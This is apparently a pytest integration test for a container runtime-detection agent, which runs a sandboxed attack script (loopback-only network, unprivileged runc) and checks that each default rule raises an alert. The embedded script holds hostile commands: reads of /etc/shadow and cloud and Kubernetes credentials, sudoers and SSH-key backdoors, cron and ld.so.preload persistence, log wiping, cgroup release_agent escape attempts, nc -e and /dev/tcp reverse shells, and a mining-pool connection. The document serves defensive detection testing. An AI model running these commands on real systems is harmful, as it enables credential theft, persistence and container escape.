"""Every default detection rule, triggered by the real attack in a REAL runc container
(root only), plus the host-scoped attempts on the host.

One agent (the real CLI, default rules) serves the module. One container runs every
attack from its entrypoint script (/attacks.sh, so each alert's ancestry leads back to
it); its rootfs is an overlayfs (image = lower layer) so drift is real, and it joins a
private network namespace whose only interface is loopback (up), so the network attacks
(metadata endpoint, mining pool port, port scan, reverse shell) never leave the machine.
The container runs with runc's default (unprivileged) capabilities: mount, unshare,
setns, module loads, setcap... fail with EPERM and are still reported as attempts.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.agent import AgentProcess, Event
from tests.helpers.containers import build_rootfs, run_runc

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
]

REPO = Path(__file__).resolve().parents[2]
ATTACK_C = REPO / "tests" / "fixtures" / "c" / "attack.c"

ATTACKS = r"""#!/bin/sh
# every attack once; failures are expected (unprivileged container), attempts count
cd /work
A=/attack
cat /etc/shadow > /dev/null
read -r line < /etc/shadow                       # the shell itself, no new process
cat /var/run/secrets/kubernetes.io/serviceaccount/token
cat /root/.aws/credentials
echo evil >> /etc/motd
echo evil > /bin/evil
echo '* * * * * root /tmp/x' >> /etc/crontab
echo /tmp/evil.so > /etc/ld.so.preload
echo 'evil ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
echo ssh-ed25519 AAAA evil >> /root/.ssh/authorized_keys
echo 'auth sufficient pam_permit.so' > /etc/pam.d/common-auth
: > /var/log/auth.log
: > /root/.ash_history
rm -f /var/log/messages
apt-get install -y evil
cp /bin/busybox /tmp/bb; /tmp/bb true
$A memfd-exec
cp /bin/busybox /work/dropped; /work/dropped true
$A ptrace-attach
$A traceme
$A finit-module
mount -t tmpfs none /mnt
umount /proc
unshare -m true
$A setns
$A packet-socket
cat /var/run/docker.sock
$A connect-unix /run/containerd/containerd.sock
$A connect 169.254.169.254 80
$A connect 127.0.0.1 3333 --url=stratum+tcp://pool.example:3333
touch /tmp/f; $A setuid /tmp/f; $A setcap /tmp/f
$A scan 127.0.0.1 20000 20040
echo '|/tmp/x' > /proc/sys/kernel/core_pattern
mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; echo /tmp/x > /tmp/cg/release_agent
$A procmem 1
ln -s /etc/shadow /tmp/shadow-link
ln /etc/shadow /tmp/shadow-hard
nc -l -p 4444 > /dev/null & sleep 0.3; $A dup2-shell 127.0.0.1 4444
nc -l -p 4445 > /dev/null & sleep 0.3; nc 127.0.0.1 4445 -e /bin/sh & sleep 0.5
cat /proc/net/tcp > /dev/null                    # discovery: the socket table
$A sweep 127.0.0 1 30 22                         # one port on 30 hosts
cp /bin/busybox /dev/.x; /dev/.x true            # /dev is a tmpfs
$A fexecve /bin/busybox
cat /proc/1/environ > /dev/null
$A process-vm; $A process-vm write
ln -s /proc/1/root /tmp/hostroot
ln -s /var/run/docker.sock /tmp/d.sock
mount -o bind /etc /mnt
mount -o bind /tmp /proc/1                       # hide pid 1's /proc entry
ln -sf /dev/null /root/.ash_history
touch -d '2020-01-01 00:00:00' /bin/evil
$A rename kworker/0:7
$A argv0 '[kworker/1:0]' /bin/busybox true
cp /bin/busybox /work/sshd; /work/sshd true
echo 'echo piped-payload' | sh                    # curl ... | sh
echo 'echo piped-payload' | sh -s                 # wget -O- ... | bash -s
$A attacks-done   # busybox runs touch/echo/rm in-process: an exec marks the end
exec sleep 600
"""


@dataclass
class Scene:
    agent: AgentProcess
    ctr_id: str
    exec_ctr: Callable[..., subprocess.CompletedProcess[str]]


def _image(lower: Path, attack_bin: Path) -> None:
    build_rootfs(lower)
    shutil.copy2(attack_bin, lower / "attack")
    (lower / "attacks.sh").write_text(ATTACKS)
    for d in ("work", "mnt", "var/log", "usr/bin", "root/.ssh", "root/.aws", "etc/pam.d",
              "var/run/secrets/kubernetes.io/serviceaccount", "run/containerd"):
        (lower / d).mkdir(parents=True, exist_ok=True)
    (lower / "var/run/secrets/kubernetes.io/serviceaccount/token").write_text("token\n")
    (lower / "root/.aws/credentials").write_text("[default]\naws_secret_access_key=x\n")
    (lower / "var/log/auth.log").write_text("log\n")
    (lower / "var/log/messages").write_text("log\n")
    (lower / "root/.ash_history").write_text("ls\n")
    (lower / "etc/crontab").write_text("")
    (lower / "etc/sudoers").write_text("root ALL=(ALL) ALL\n")
    apt = lower / "usr/bin/apt-get"
    apt.write_text("#!/bin/sh\necho fake apt-get \"$@\"\n")
    apt.chmod(0o755)


@pytest.fixture(scope="module")
def scene() -> Iterator[Scene]:
    work = Path(tempfile.mkdtemp(prefix="moray-detect-"))
    netns = f"mrdet{os.getpid()}"
    mounted = False
    try:
        attack_bin = work / "attack"
        subprocess.run(["gcc", "-static", "-O1", "-o", str(attack_bin), str(ATTACK_C)],
                       check=True, capture_output=True)
        lower, upper, ovw, merged = (work / n for n in ("lower", "upper", "ovwork", "merged"))
        for d in (upper, ovw, merged):
            d.mkdir()
        _image(lower, attack_bin)
        subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                        f"lowerdir={lower},upperdir={upper},workdir={ovw}", str(merged)],
                       check=True)
        mounted = True
        subprocess.run(["ip", "netns", "add", netns], check=True)
        subprocess.run(["ip", "-n", netns, "link", "set", "lo", "up"], check=True)
        (work / "agent").mkdir()
        with AgentProcess(workdir=work / "agent") as agent:
            ctr_id = f"mr-det-{os.getpid()}"
            with run_runc(ctr_id, ["/bin/sh", "/attacks.sh"], rootfs=merged,
                          network=f"/run/netns/{netns}", env=("PATH=/bin:/usr/bin",),
                          start=True) as ctr:
                agent.events.wait_for(
                    lambda e: e.get("type") == "exec"
                    and "attacks-done" in e["process"]["args"], timeout=120,
                    what="the attack script to finish")

                def exec_ctr(*argv: str) -> subprocess.CompletedProcess[str]:
                    return ctr.runc("exec", ctr.id, *argv)

                yield Scene(agent, ctr.id, exec_ctr)
    finally:
        subprocess.run(["ip", "netns", "del", netns], capture_output=True, check=False)
        if mounted:
            subprocess.run(["umount", "-l", str(work / "merged")], capture_output=True,
                           check=False)
        shutil.rmtree(work, ignore_errors=True)


def alerts(agent: AgentProcess, rule: str, ctr_id: str | None,
           pred: Callable[[Event], bool] = lambda a: True, timeout: float = 10) -> Event:
    def match(e: Event) -> bool:
        if e.get("type") != "alert" or e.get("rule") != rule:
            return False
        c = e["event"].get("container")
        if ctr_id is None:
            return c is None and pred(e)
        return c is not None and c.get("id") == ctr_id and pred(e)
    return agent.events.wait_for(match, timeout=timeout, what=f"alert {rule!r}")


def from_script(a: Event) -> bool:
    """The alert's process is the attack script or descends from it."""
    chain = [a["event"]["process"], *a["ancestry"]]
    return any("/attacks.sh" in (p.get("args") or []) for p in chain)


def syscall_is(name: str, **kv: Any) -> Callable[[Event], bool]:
    def pred(a: Event) -> bool:
        s = a["event"].get("syscall") or {}
        return s.get("name") == name and all(s.get(k) == v for k, v in kv.items())
    return pred


def file_is(path: str) -> Callable[[Event], bool]:
    return lambda a: (a["event"].get("file") or {}).get("path") == path


def proc_arg(arg: str) -> Callable[[Event], bool]:
    return lambda a: arg in a["event"]["process"]["args"]


# (rule, predicate on the alert) for every attack /attacks.sh performs
EXPECTED: list[tuple[str, Callable[[Event], bool]]] = [
    ("Read sensitive file", file_is("/etc/shadow")),
    ("Read sensitive file", file_is("/var/run/secrets/kubernetes.io/serviceaccount/token")),
    ("Read sensitive file", file_is("/root/.aws/credentials")),
    ("Write below etc", file_is("/etc/motd")),
    ("Write below binary directory", file_is("/bin/evil")),
    ("Schedule cron job", file_is("/etc/crontab")),
    ("Modify ld.so.preload", file_is("/etc/ld.so.preload")),
    ("Modify sudoers", file_is("/etc/sudoers")),
    ("Modify SSH authorized_keys", file_is("/root/.ssh/authorized_keys")),
    ("Modify PAM configuration", file_is("/etc/pam.d/common-auth")),
    ("Log or history tampering", file_is("/var/log/auth.log")),
    ("Log or history tampering", file_is("/root/.ash_history")),
    ("Log or history tampering",
     lambda a: (a["event"].get("syscall") or {}).get("path") == "/var/log/messages"),
    ("Package manager in container", proc_arg("evil")),
    ("Execution from temporary or memory file system",
     lambda a: a["event"]["process"]["binary"] == "/tmp/bb"),
    ("Execution from temporary or memory file system",
     lambda a: a["event"]["process"]["binary"].startswith("/memfd:payload")),
    ("Drift - binary not in the image", syscall_is("execve", path="/work/dropped")),
    ("Drift - binary not in the image", syscall_is("execve", path="/tmp/bb")),
    ("Ptrace attach or traceme", syscall_is("ptrace", request="PTRACE_ATTACH")),
    ("Ptrace attach or traceme", syscall_is("ptrace", request="PTRACE_TRACEME")),
    ("Kernel module load attempt", syscall_is("finit_module")),
    ("Kernel module load attempt", syscall_is("init_module")),
    ("Mount in container", syscall_is("mount", path="/mnt", error="EPERM")),
    ("Mount in container", syscall_is("umount2", path="/proc")),
    ("Mount in container", syscall_is("mount", path="/tmp/cg")),
    ("Namespace change in container", syscall_is("unshare", error="EPERM")),
    ("Namespace change in container", syscall_is("setns")),
    ("Raw packet socket", syscall_is("socket", family="packet")),
    ("Raw packet socket", syscall_is("socket", family="ipv4", sock_type="raw")),
    ("Container runtime socket access", file_is("/var/run/docker.sock")),
    ("Container runtime socket access",
     syscall_is("connect", path="/run/containerd/containerd.sock")),
    ("Cloud metadata endpoint contacted",
     lambda a: a["event"]["network"]["daddr"] == "169.254.169.254"),
    ("Connection to mining pool port", lambda a: a["event"]["network"]["dport"] == 3333),
    ("Crypto miner launched", lambda a: "--url=stratum+tcp://pool.example:3333"
     in a["event"]["process"]["args"]),
    ("Setuid or setgid bit set", syscall_is("chmod", mode="4755")),
    ("Setuid or setgid bit set", syscall_is("fchmodat", mode="2755")),
    ("File capabilities set", syscall_is("setxattr", xattr="security.capability")),
    ("Network scanning", lambda a: a["event"]["network"]["daddr"] == "127.0.0.1"),
    ("Write to release_agent or core_pattern", file_is("/proc/sys/kernel/core_pattern")),
    ("Write to release_agent or core_pattern",
     lambda a: (a["event"].get("syscall") or {}).get("path") == "/tmp/cg/release_agent"),
    ("Process memory access via /proc", file_is("/proc/1/mem")),
    ("Link to sensitive file", syscall_is("symlink", target="/etc/shadow")),
    ("Link to sensitive file", syscall_is("link", target="/etc/shadow")),
    ("Network connections enumerated via /proc",
     lambda a: a["event"]["file"]["path"].endswith("/net/tcp")),
    ("Network scanning", lambda a: a["event"]["network"]["dport"] == 22),
    ("Execution from a memory-backed file system", syscall_is("execve", path="/dev/.x")),
    ("Execution through a file descriptor",
     lambda a: a["event"]["process"]["binary"] == "/bin/busybox"),
    ("Execution through a file descriptor",
     lambda a: a["event"]["process"]["binary"].startswith("/memfd:payload")),
    ("Read environment of another process", file_is("/proc/1/environ")),
    ("Process memory accessed with process_vm_readv or process_vm_writev",
     syscall_is("process_vm_readv")),
    ("Process memory accessed with process_vm_readv or process_vm_writev",
     syscall_is("process_vm_writev")),
    ("Link to host root or runtime socket", syscall_is("symlink", target="/proc/1/root")),
    ("Link to host root or runtime socket",
     syscall_is("symlink", target="/var/run/docker.sock")),
    ("Bind mount of a sensitive path", syscall_is("mount", source="/etc", error="EPERM")),
    ("Bind mount of a sensitive path", syscall_is("mount", path="/proc/1")),
    ("Shell history replaced by a link",
     syscall_is("symlink", target="/dev/null", newpath="/root/.ash_history")),
    ("File timestamps changed", syscall_is("utimensat", path="/bin/evil")),
    ("Process masquerading as a kernel thread",
     lambda a: a["event"]["process"]["comm"] == "kworker/0:7"),
    ("Process masquerading as a kernel thread",
     lambda a: (a["event"]["process"]["args"] or [""])[0] == "[kworker/1:0]"),
    ("System program name run from an unusual path",
     lambda a: a["event"]["process"]["binary"] == "/work/sshd"),
    # `curl | sh`: a shell reading its program from a pipe
    ("Interpreter fed by a pipe", lambda a: syscall_is("execve", stdin_pipe=True, argc=1)(a)
     and a["event"]["process"]["args"] == ["sh"]),
    ("Interpreter fed by a pipe", lambda a: syscall_is("execve", stdin_pipe=True)(a)
     and a["event"]["process"]["args"] == ["sh", "-s"]),
    # a socket dup2'ed onto stdio, then a shell (the C/Python/perl one-liners)
    ("Reverse shell", lambda a: (a["event"].get("syscall") or {}).get("name") == "execve"
     and (a["event"]["syscall"].get("peer") or {}).get("dport") == 4444),
    # nc -e /bin/sh
    ("Reverse shell", lambda a: (a["event"].get("syscall") or {}).get("name") == "execve"
     and (a["event"]["syscall"].get("peer") or {}).get("dport") == 4445),
]


@pytest.mark.parametrize(("rule", "pred"), EXPECTED,
                         ids=[f"{r}-{i}" for i, (r, _) in enumerate(EXPECTED)])
def test_attack_raises_alert(scene: Scene, rule: str, pred: Callable[[Event], bool]) -> None:
    a = alerts(scene.agent, rule, scene.ctr_id, pred)
    assert from_script(a), f"ancestry does not lead to /attacks.sh: {a['ancestry']}"
    assert a["priority"] and a["tags"] and a["event"]["container"]["id"] == scene.ctr_id
    assert a["event"]["container"]["runtime"] == "runc"


def test_shell_read_by_the_shell_itself(scene: Scene) -> None:
    """`read line < /etc/shadow` opens the file in the entrypoint shell: no new process."""
    a = alerts(scene.agent, "Read sensitive file", scene.ctr_id,
               lambda a: file_is("/etc/shadow")(a)
               and "/attacks.sh" in a["event"]["process"]["args"])
    assert a["event"]["process"]["binary"] == "/bin/busybox"


def test_shell_started_by_exec_not_entrypoint(scene: Scene) -> None:
    res = scene.exec_ctr("/bin/sh", "-c", "echo from-exec")
    assert res.returncode == 0, res.stderr
    a = alerts(scene.agent, "Shell in container not started by the entrypoint", scene.ctr_id,
               proc_arg("echo from-exec"))
    assert a["tags"] and "T1059.004" in a["tags"]
    assert a["ancestry"] and a["ancestry"][0]["binary"] != "/bin/busybox"  # runc, outside


def test_every_default_rule_is_exercised(scene: Scene) -> None:
    from moray.agent.detect.load import load

    names = {r.name for r in load([]).rules}
    tested = {r for r, _ in EXPECTED} | {"Shell in container not started by the entrypoint"}
    assert names == tested


def test_entrypoint_and_runtime_raise_no_shell_or_mount_alert(scene: Scene) -> None:
    """runc init's own mounts/unshares and the entrypoint shell itself are not alerts."""
    scene.agent.events.poll()
    bad = [a for a in scene.agent.events.events if a.get("type") == "alert"
           and (a["event"].get("container") or {}).get("id") == scene.ctr_id
           and a["event"]["process"]["comm"].startswith("runc")]
    assert not bad, [a["output"] for a in bad]
    shells = [a for a in scene.agent.events.events if a.get("type") == "alert"
              and a["rule"] == "Shell in container not started by the entrypoint"
              and (a["event"].get("container") or {}).get("id") == scene.ctr_id
              and "/attacks.sh" in a["event"]["process"]["args"]]
    assert not shells


def test_host_attempts(scene: Scene) -> None:
    """Host-scoped rules: the same attempts from a host process (not a container)."""
    work = Path(tempfile.mkdtemp(prefix="moray-detect-host-"))
    try:
        attack = work / "attack"
        subprocess.run(["gcc", "-static", "-O1", "-o", str(attack), str(ATTACK_C)],
                       check=True, capture_output=True)
        for args in (("ptrace-attach",), ("packet-socket",)):
            subprocess.run([str(attack), *args], capture_output=True, timeout=10, check=False)
        subprocess.run(["python3", "-c", "import ctypes; ctypes.CDLL(None).syscall(313, 0, 0, 0)"],
                       capture_output=True, timeout=10, check=False)
        # bash's /dev/tcp: the shell itself dup2()s the socket onto stdin/stdout
        with socket.socket() as srv:
            srv.bind(("127.0.0.1", 0))
            srv.listen()
            port = srv.getsockname()[1]
            subprocess.run(["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; true"],
                           capture_output=True, timeout=10, check=False)
        alerts(scene.agent, "Reverse shell", None,
               lambda a: syscall_is("dup2")(a) and a["event"]["syscall"]["peer"]["dport"]
               == port)
        alerts(scene.agent, "Ptrace attach or traceme", None, syscall_is("ptrace"))
        alerts(scene.agent, "Kernel module load attempt", None, syscall_is("finit_module"))
        alerts(scene.agent, "Execution from temporary or memory file system", None,
               lambda a: a["event"]["process"]["binary"] == str(attack))
    finally:
        shutil.rmtree(work, ignore_errors=True)

